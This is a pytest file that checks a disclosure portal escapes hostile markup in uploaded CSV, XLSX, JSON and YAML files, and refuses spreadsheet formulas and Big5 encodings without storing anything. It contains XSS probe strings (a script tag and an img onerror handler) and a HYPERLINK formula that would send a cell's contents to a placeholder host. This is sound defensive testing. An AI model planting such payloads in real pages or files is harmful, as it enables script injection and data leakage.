"""Hostile uploads through the desk and the API: what the uploader sees, and that nothing is stored.

Markup in a header, a cell, a sheet name or a file name is echoed in the
validation report; the page must show it as text (escaped, no element made of
it) and the API must return it verbatim as JSON data. A formula in a CSV cell
and a Big5 file are refused with a message in the uploader's language.
"""

from __future__ import annotations

import io
import json
from html.parser import HTMLParser

import pytest
from openpyxl import Workbook
from sqlalchemy import func, select

from portal.extensions import db
from portal.models import StoredFile, Upload
from tests.conftest import FIXTURE_CITY
from tests.desk_helpers import csv_bytes, log_in, read_csv, upload
from tests.helpers import visible_text

POWERS = FIXTURE_CITY / "disclosures/99010001FG/powers.csv"
SCRIPT = "<script>alert(1)</script>"
IMG = "<img src=x onerror=alert(2)>"  # no slash: the name of a sheet or a file may hold it


class _Elements(HTMLParser):
    """Every element of a page, with its attributes."""

    def __init__(self):
        super().__init__()
        self.elements: list[tuple[str, dict]] = []

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))


def injected(html: str) -> list[tuple[str, dict]]:
    """Elements the upload could have made: any <script> or <img>, any on… attribute."""
    parser = _Elements()
    parser.feed(html)
    return [(tag, attrs) for tag, attrs in parser.elements
            if tag in ("script", "img") or any(name.startswith("on") for name in attrs)]


@pytest.fixture
def api_headers(desk):
    """A Bearer token of the same account, made with the CLI."""
    token = desk.test_cli_runner().invoke(args=["users", "token", "fg"]).output.strip()
    assert token.startswith("mj_")
    return {"Authorization": f"Bearer {token}"}


def powers_with(change) -> bytes:
    """The fixture's powers CSV after `change(headers, rows)`."""
    headers, rows = read_csv(POWERS)
    change(headers, rows)
    return csv_bytes(headers, rows)


def _header(headers, rows):
    headers.append(SCRIPT)
    for row in rows:
        row[SCRIPT] = "x"


def _cell(headers, rows):
    rows[0]["权力类型"] = IMG


def _workbook() -> bytes:
    workbook = Workbook()
    sheet = workbook.active
    sheet.title = IMG
    headers, rows = read_csv(POWERS)
    sheet.append(headers)
    sheet.append([rows[0][h] for h in headers])
    sheet["B2"] = "=HYPERLINK(\"http://example.com\")"
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


# (file name, bytes, the uploaded text the report must show as text)
CASES = {
    "header": ("powers.csv", lambda: powers_with(_header), SCRIPT),
    "cell": ("powers.csv", lambda: powers_with(_cell), IMG),
    "sheet name": ("powers.xlsx", _workbook, IMG),
    "file name": (IMG + ".csv", lambda: b"\xef\xbb\xbf", IMG),
    "json key": ("powers.json", lambda: json.dumps([{SCRIPT: "x"}]).encode(), SCRIPT),
    "yaml key": ("powers.yaml", lambda: f"- '{IMG}': x\n".encode(), IMG),
}


@pytest.mark.parametrize("case", CASES)
def test_the_desk_report_shows_uploaded_markup_as_text(desk, case):
    filename, build, markup = CASES[case]
    client = desk.test_client()
    log_in(client, "fg")
    response = upload(client, build(), filename=filename)
    assert response.status_code == 422
    html = response.get_data(as_text=True)
    assert injected(html) == []
    assert markup in visible_text(html)  # shown, as the text it is
    assert markup not in html  # …because it is escaped in the source
    with desk.app_context():
        assert db.session.scalar(select(func.count()).select_from(Upload)) == 0
        assert db.session.scalar(select(func.count()).select_from(StoredFile)) == 0


@pytest.mark.parametrize("lang", ["en", "zh-hant"])
def test_the_report_escapes_in_every_language(desk, lang):
    client = desk.test_client()
    log_in(client, "fg", lang=lang)
    response = upload(client, powers_with(_header), lang=lang)
    assert response.status_code == 422
    html = response.get_data(as_text=True)
    assert injected(html) == [] and SCRIPT not in html
    assert SCRIPT in visible_text(html)


@pytest.mark.parametrize("case", CASES)
def test_the_api_report_returns_uploaded_markup_as_data(desk, api_headers, case):
    filename, build, markup = CASES[case]
    response = desk.test_client().post(
        "/api/v1/uploads", headers=api_headers, content_type="multipart/form-data",
        data={"kind": "powers", "file": (io.BytesIO(build()), filename)})
    assert response.status_code == 422 and response.mimetype == "application/json"
    body = response.get_json()
    assert body["ok"] is False
    for error in body["errors"]:
        assert all(isinstance(error[key], (str, int, type(None))) for key in error)
    shown = json.dumps(body["errors"], ensure_ascii=False)
    if case != "file name":  # the API report does not repeat the file's name
        assert markup.replace('"', '\\"') in shown


# --- formulas (CSV injection) and encodings, as the uploader sees them ------------------------


def _formula(headers, rows):
    rows[0]["备注"] = '=HYPERLINK("http://example.com/?"&A2,"详情")'


def test_a_formula_in_a_csv_is_refused_in_the_users_language_and_nothing_is_stored(desk, api_headers):
    data = powers_with(_formula)
    client = desk.test_client()
    log_in(client, "fg", lang="en")
    response = upload(client, data, lang="en")
    assert response.status_code == 422
    text = visible_text(response.get_data(as_text=True))
    assert 'Row 2, "备注": starts with "=", which spreadsheet software runs as a formula.' in text
    body = desk.test_client().post(
        "/api/v1/uploads", headers=api_headers, content_type="multipart/form-data",
        data={"kind": "powers", "file": (io.BytesIO(data), "powers.csv")}).get_json()
    assert [(e["row"], e["column"]) for e in body["errors"]] == [(2, "备注")]
    assert body["errors"][0]["message"].startswith("第 2 行“备注”以“=”开头，电子表格软件会把它当作公式运行")
    with desk.app_context():
        assert db.session.scalar(select(func.count()).select_from(StoredFile)) == 0


def test_dashes_for_none_and_inside_text_still_upload(desk):
    def harmless(headers, rows):
        rows[0]["备注"] = "-"
        rows[0]["承办机构"] = "投资科 - 审批组"
    client = desk.test_client()
    log_in(client, "fg")
    assert upload(client, powers_with(harmless)).status_code == 302


def _big5_csv() -> bytes:
    traditional = {"事项编码": "事項編碼", "事项名称": "事項名稱", "权力类型": "權力類型", "实施主体": "實施主體",
                   "设定依据": "設定依據", "状态": "狀態"}
    lines = [",".join(traditional[h] for h in traditional)]
    lines += [",".join(["99010001FG-XK-0009", "企業投資項目核准", "行政許可", "99010001FG",
                        "《企業投資項目核准和備案管理條例》", "在用"])]
    return ("\r\n".join(lines) + "\r\n").encode("big5")


def test_a_big5_csv_is_refused_naming_the_encodings_accepted(desk, api_headers):
    data = _big5_csv()
    client = desk.test_client()
    log_in(client, "fg")
    response = upload(client, data)
    assert response.status_code == 422
    text = visible_text(response.get_data(as_text=True))
    assert "文件是 Big5（繁体中文）编码，无法读取：请另存为 UTF-8、带 BOM 的 UTF-8 或 GB18030（GBK）编码后再上传" in text
    assert "缺少必填列" not in text  # not 23 "missing columns" of nonsense
    body = desk.test_client().post(
        "/api/v1/uploads", headers={**api_headers, "Accept-Language": "en"}, content_type="multipart/form-data",
        data={"kind": "powers", "file": (io.BytesIO(data), "powers.csv")}).get_json()
    assert [e["message"] for e in body["errors"]] == [
        "The file is encoded in Big5 (Traditional Chinese), which cannot be read. Save it again as UTF-8, "
        "UTF-8 with BOM or GB18030 (GBK) and upload it again"]
